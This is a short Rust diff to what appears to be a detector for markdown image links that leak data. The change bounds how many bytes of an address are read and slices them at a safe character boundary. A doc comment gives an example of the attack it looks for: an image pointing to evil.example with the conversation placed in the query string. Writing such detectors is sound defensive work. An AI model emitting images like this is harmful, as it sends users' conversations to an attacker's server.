@@ -156,12 +156,16 @@ fn all(text: &str, first: u8, what: &'static str) -> impl Iterator<Item = usize>
     text.bytes().enumerate().filter(move |(at, byte)| *byte == first && text[*at..].starts_with(what)).map(|(at, _)| at).take(8)
 }
 
+/// Bytes of an image's address that are read.
+const ADDRESS: usize = 300;
+
 /// An image whose address takes data along: `![x](https://evil.example/?d={conversation})`.
 fn find_image(plain: &Plain, words: &[Word], signs: &mut Vec<Sign>) {
     let text = plain.text.as_str();
     for at in all(text, b']', "](http") {
         let address = &text[at..];
-        let address = &address[..address.find([' ', '\n']).unwrap_or(address.len()).min(300)];
+        let end = address.find([' ', '\n']).unwrap_or(address.len());
+        let address = &address[..address.floor_char_boundary(end.min(ADDRESS))];
         let Some(query) = address.find('?') else { continue };
         let takes = [
             "conversation",
